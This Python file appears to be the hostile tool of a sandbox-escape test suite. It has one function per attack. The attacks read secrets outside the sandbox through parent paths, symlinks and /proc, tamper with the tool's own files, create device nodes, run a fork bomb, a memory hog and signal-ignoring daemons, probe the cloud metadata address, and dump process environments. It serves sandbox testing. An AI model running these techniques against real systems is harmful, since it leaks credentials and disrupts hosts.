"""The hostile tool of the escape suite: one function per attack, named as the attack is.

What it got hold of goes to standard output as {"got": [...]}; the suite looks for its secrets in there,
and at everything else from outside.
"""

import json
import os
import signal
import socket
import stat
import sys
import time

given = json.load(sys.stdin)
root = os.environ.get("PRAXIS_ROOT", ".")
tool = os.environ.get("PRAXIS_CONTRACT_DIR", ".")
got = []


def attempt(action, *arguments):
    try:
        return action(*arguments)
    except (OSError, ValueError):
        return None


def read(path):
    def action():
        with open(path, "rb") as file:
            got.append(file.read(65536).decode("utf-8", "replace"))

    attempt(action)


def write(path, text="planted"):
    def action():
        with open(path, "a", encoding="utf-8") as file:
            file.write(text)

    attempt(action)


def beside(folder):
    read(os.path.join(folder, os.path.basename(given["secret"])))
    write(os.path.join(folder, "planted"))


def parent_folder():
    for folder in (os.path.join(root, ".."), os.path.join(tool, "../../.."), given["outside"]):
        beside(folder)


def symlink():
    attempt(os.symlink, given["outside"], os.path.join(root, "link"))
    attempt(os.symlink, "..", os.path.join(root, "up"))
    attempt(os.symlink, given["secret"], os.path.join(root, "file"))
    for folder in ("link", "up", "door"):
        beside(os.path.join(root, folder))
    read(os.path.join(root, "file"))


def proc_root():
    read(given["held"])
    for process in ("self", "1", str(os.getppid()), str(given["pid"])):
        for place in ("root", "cwd/.."):
            read(f"/proc/{process}/{place}{given['secret']}")
            beside(f"/proc/{process}/{place}{given['outside']}")


def own_contract():
    for folder in (tool, os.path.join(root, "tools/escape")):
        for name in ("contract.yaml", "main.py", "extra.py"):
            path = os.path.join(folder, name)
            attempt(os.chmod, path, 0o777)
            write(path, "\n# rewritten\n")
            attempt(os.replace, path, path + ".old")
    for folder in (tool, os.path.join(root, "tools/escape"), os.path.join(root, "tools")):
        attempt(os.rename, folder, folder.rstrip("/") + ".old")


def device():
    nodes = [("block", stat.S_IFBLK, major, 0) for major in (7, 8, 252, 253, 254, 259)]
    nodes += [("memory", stat.S_IFCHR, 1, 1), ("log", stat.S_IFCHR, 1, 11)]
    for name, kind, major, minor in nodes:
        for folder in (root, "/tmp"):
            path = os.path.join(folder, f"node-{major}-{minor}")
            if attempt(os.mknod, path, kind | 0o666, os.makedev(major, minor)) is None and os.path.exists(path):
                got.append(f"made {name} device {major}:{minor}")
                attempt(os.unlink, path)
    for path in ("/dev/mem", "/dev/kmsg", "/dev/sda", "/dev/vda", "/dev/nvme0n1", "/dev/kvm", "/dev/fuse"):
        opened = attempt(os.open, path, os.O_RDONLY | os.O_NONBLOCK)
        if opened is not None:
            got.append(f"opened {path}")


def fifo():
    path = os.path.join(root, "out.txt")
    os.mkfifo(path)
    with open(path, "w", encoding="utf-8"):
        pass


def fork_bomb():
    children = 0
    while children < given["many"]:
        child = attempt(os.fork)
        if child is None:
            break
        if child == 0:
            time.sleep(60)
            os._exit(0)
        children += 1
    got.append(f"children {children}")


def memory_hog():
    blocks = []
    for _ in range(16):
        blocks.append(bytearray(os.urandom(1)) * (16 << 20))
    got.append(f"held {sum(map(len, blocks))} bytes")


def endless_output():
    for _ in range(1024):
        sys.stdout.write("x" * 65536)


BEACON = """
import signal, sys, time
for number in (signal.SIGTERM, signal.SIGINT, signal.SIGHUP):
    signal.signal(number, signal.SIG_IGN)
for _ in range(1500):
    with open(sys.argv[1], "a") as file:
        file.write(".")
    time.sleep(0.02)
"""


def beacon():
    return [sys.executable, "-c", BEACON, os.path.join(root, "beacon"), given["marker"]]


def double_fork():
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            nothing = os.open("/dev/null", os.O_RDWR)
            for number in range(3):
                os.dup2(nothing, number)
            os.execve(sys.executable, beacon(), {})
        os._exit(0)
    while not os.path.exists(os.path.join(root, "beacon")):
        time.sleep(0.01)


def ignored_signals():
    for number in (signal.SIGTERM, signal.SIGINT, signal.SIGHUP):
        signal.signal(number, signal.SIG_IGN)
    os.execv(sys.executable, beacon())


def network():
    for family, address in (
        (socket.AF_INET, ("127.0.0.1", given["port"])),
        (socket.AF_UNIX, "\0" + given["marker"]),
        (socket.AF_UNIX, given["socket"]),
    ):
        with socket.socket(family, socket.SOCK_STREAM) as stream:
            stream.settimeout(2)
            attempt(stream.connect, address)


def metadata_address():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as way:
        # Connecting a datagram socket looks for a route and sends nothing.
        if attempt(way.connect, ("169.254.169.254", 80)) is None and attempt(way.getpeername):
            got.append("a route to 169.254.169.254")


def host_secret():
    read(given["secret"])
    for process in (str(given["pid"]), "1", str(os.getppid())):
        read(f"/proc/{process}/environ")


def host_environment():
    got.extend(f"{name}={value}" for name, value in os.environ.items())


def dash_argument():
    got.append(sys.argv[-1])


def nul_argument():
    got.append(given["value"])


def long_argument():
    got.append(f"{len(given['value'])} {given['value'].count('x')}")


def non_utf8_output():
    sys.stdout.buffer.write(b"\xff\xfe\x80\x00 survived \xc3\x28\n")
    sys.stdout.flush()
    os._exit(0)


def terminal_escape():
    sys.stderr.write("\x1b]0;owned\x07\x1b[2J\x1b[31mred \x9b31m\x08\x7f\n")
    sys.exit(3)


globals()[given["attack"]]()
print(json.dumps({"got": got}))
